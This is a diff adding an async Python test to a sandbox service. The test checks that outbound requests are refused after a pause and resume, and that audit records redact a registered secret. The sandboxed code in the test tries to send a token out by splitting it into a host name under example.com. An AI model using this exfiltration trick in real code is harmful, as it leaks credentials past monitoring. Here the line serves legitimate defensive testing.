@@ -242,3 +242,26 @@ async def test_zstd_archive_and_a_legacy_gzip_one_both_resume(door: FrontDoor) -
     (ckpt / ARCHIVE).unlink()
     await door.connect(T, sid)
     assert await door.read_file(T, sid, "/home/user/f") == "legacy"
+
+
+async def test_resumed_sandbox_audit_rows_are_scrubbed_by_its_guard(door: FrontDoor) -> None:
+    """A sensitive value the sandbox sends out as a host name is redacted in the audit
+    trail after a resume too (the pause's "ended" row had dropped its guard's hook)."""
+    value = "tok" + secrets.token_hex(10)
+    cfg = door.resolve(isolation=TIER)
+    sid = (await door.create(T, cfg, sensitive={value: "token"})).sandbox_id
+    await door.pause(T, sid)
+    await _warm(door)
+    await door.connect(T, sid)
+    code = (
+        "import urllib.request\n"
+        "try:\n"
+        f"    urllib.request.urlopen('http://' + {value[:6]!r} + {value[6:]!r} + '.example.com',"
+        " timeout=10)\n"
+        "except Exception as e:\n"
+        "    print('refused')\n"
+    )
+    assert "refused" in await _run(door, sid, code)
+    rows = await asyncio.to_thread(door.engine.audit.query, sandbox_id=sid, kind="egress")
+    assert rows, "the refused request was audited"
+    assert value not in repr(rows)
